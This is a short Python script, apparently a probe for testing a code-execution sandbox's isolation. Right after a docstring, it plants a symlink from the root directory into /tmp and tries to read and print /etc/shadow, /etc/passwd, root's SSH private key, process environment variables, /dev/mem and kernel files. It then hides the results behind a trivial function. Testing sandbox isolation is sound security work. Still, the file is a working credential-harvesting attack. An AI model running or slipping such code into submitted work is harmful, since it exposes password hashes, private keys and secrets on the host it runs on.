"""Reads the host by its files and through links."""

import os

found = []
os.symlink("/", "/tmp/sourcewise_attack_root")
for path in (
    "/etc/shadow",
    "/etc/passwd",
    "/root/.ssh/id_rsa",
    "/proc/self/environ",
    "/proc/1/root/etc/passwd",
    "/tmp/sourcewise_attack_root/etc/passwd",
    "/dev/mem",
    "/sys/kernel/uevent_helper",
):
    try:
        found.append(open(path).read())
        print(found[-1])
    except OSError:
        pass


def f(x):
    return found or None
